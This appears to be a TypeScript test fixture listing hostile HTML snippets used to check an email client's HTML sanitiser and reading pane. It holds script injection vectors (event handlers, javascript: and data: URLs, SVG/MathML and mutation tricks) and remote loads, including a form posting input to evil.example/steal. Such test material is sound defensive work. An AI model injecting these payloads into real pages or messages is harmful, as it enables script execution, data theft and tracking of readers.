// Hostile HTML as it arrives in mail: each entry must render nothing that runs and load nothing remote once
// sanitised (html-sanitizer.test.ts) and shown in the reading pane (e2e). Each sets `window.__xss` or loads
// from evil.example if it works, so a failure names the vector that got through.

export interface XssCase {
  readonly name: string;
  readonly html: string;
}

export const XSS_CORPUS: readonly XssCase[] = [
  { name: 'script tag', html: '<p>a</p><script>window.__xss = 1</script>' },
  { name: 'script in uppercase, split', html: '<SCRIPT >window.__xss = 1</SCRIPT >' },
  { name: 'img onerror', html: '<img src="x" onerror="window.__xss = 1">' },
  { name: 'body onload', html: '<body onload="window.__xss = 1"><p>b</p></body>' },
  { name: 'svg onload', html: '<svg onload="window.__xss = 1"><circle r="4"/></svg>' },
  { name: 'svg script', html: '<svg><script>window.__xss = 1</script></svg>' },
  {
    name: 'svg animate href',
    html: '<svg><a><animate attributeName="href" to="javascript:window.__xss=1"/><text y="9">x</text></a></svg>',
  },
  { name: 'mathml link', html: '<math><mtext><a href="javascript:window.__xss=1">m</a></mtext></math>' },
  { name: 'javascript link', html: '<a href="javascript:window.__xss = 1">lien</a>' },
  { name: 'javascript link, entities', html: '<a href="jav&#x09;ascript:window.__xss=1">lien</a>' },
  { name: 'data html link', html: '<a href="data:text/html,<script>window.__xss=1</script>">lien</a>' },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">lien</a>' },
  { name: 'iframe', html: '<iframe src="javascript:window.__xss=1"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>' },
  { name: 'object', html: '<object data="data:text/html,<script>window.__xss=1</script>"></object>' },
  { name: 'embed', html: '<embed src="data:text/html,<script>window.__xss=1</script>">' },
  {
    name: 'form action',
    html: '<form action="https://evil.example/steal"><input name="p"><button>ok</button></form>',
  },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">' },
  { name: 'base href', html: '<base href="https://evil.example/"><a href="x">rel</a>' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/s.css">' },
  {
    name: 'style import',
    html: '<style>@import url("https://evil.example/s.css"); p{color:red}</style><p>c</p>',
  },
  { name: 'css background url', html: '<div style="background:url(https://evil.example/pixel.gif)">d</div>' },
  { name: 'css expression', html: '<div style="width: expression(window.__xss = 1)">e</div>' },
  {
    name: 'css in style tag url',
    html: '<style>body{background-image:url(//evil.example/p.png)}</style><p>f</p>',
  },
  { name: 'remote image', html: '<img src="https://evil.example/track.gif" width="1" height="1">' },
  { name: 'protocol-relative image', html: '<img src="//evil.example/track.gif">' },
  {
    name: 'srcset',
    html: '<img srcset="https://evil.example/a.png 1x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  },
  {
    name: 'background attribute',
    html: '<table background="https://evil.example/bg.png"><tr><td>g</td></tr></table>',
  },
  { name: 'video poster', html: '<video poster="https://evil.example/p.png"></video>' },
  { name: 'audio', html: '<audio src="https://evil.example/a.mp3" autoplay></audio>' },
  { name: 'malformed nesting', html: '<p><b><i>h</b></i><img src=x onerror=window.__xss=1//' },
  { name: 'unclosed attribute', html: '<img src="x" alt="><script>window.__xss=1</script>">' },
  { name: 'noscript mutation', html: '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">' },
  { name: 'template', html: '<template><img src=x onerror="window.__xss=1"></template>' },
  { name: 'data image svg', html: '<img src="data:image/svg+xml,<svg onload=window.__xss=1>">' },
  { name: 'onclick on a div', html: '<div onclick="window.__xss = 1">click</div>' },
  { name: 'formaction', html: '<button formaction="javascript:window.__xss=1">b</button>' },
];
